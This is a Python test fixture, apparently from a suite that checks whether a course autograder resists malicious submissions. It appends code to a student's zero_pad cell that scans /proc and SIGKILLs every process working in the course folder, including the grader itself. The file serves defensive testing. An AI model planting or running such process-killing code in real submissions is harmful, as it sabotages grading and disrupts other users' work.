"""Kill every process it can find in /proc that works in the course folder.

All eight functions are honest. The zero_pad cell lists ``/proc`` and sends SIGKILL to
every process but itself whose working folder is the course folder or inside it: the
grader, other kernels, helpers. (A real attacker would kill every process it can; this
one keeps to the course so that running it against an unprotected grader cannot take
down anything else on the machine.)
Without protection: the batch stops; every later student ungraded.
"""
EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
APPEND = {"zero_pad": '''
import os as _os
import signal as _signal

_course = _os.path.realpath("../../..")
for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
    if int(_pid) == _os.getpid():
        continue
    try:
        _cwd = _os.readlink(f"/proc/{_pid}/cwd")
    except OSError:
        continue
    if _cwd == _course or _cwd.startswith(_course + "/"):
        try:
            _os.kill(int(_pid), _signal.SIGKILL)
        except OSError:
            pass
'''}
